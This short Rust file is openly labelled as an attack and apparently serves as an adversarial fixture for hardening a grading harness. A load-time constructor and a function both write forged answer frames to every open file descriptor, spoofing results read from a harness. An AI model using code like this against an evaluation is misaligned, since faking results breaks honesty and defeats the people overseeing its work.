//! Writes what could be answers to every descriptor, while the library is loaded and in every call.

use std::io::Write;
use std::os::fd::FromRawFd;

pub fn attack() -> f64 {
    forge();
    0.0
}

extern "C" fn forge() {
    for fd in 0..64 {
        // SAFETY: this is an attack; the file is forgotten, so that nothing is closed twice.
        let mut file = std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(fd) });
        for frame in [&[0u8; 64][..], &[0xff; 64], &[9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xf0, 0x3f]] {
            let _ = file.write(frame);
        }
    }
}

#[used]
#[unsafe(link_section = ".init_array")]
static CONSTRUCTOR: extern "C" fn() = forge;
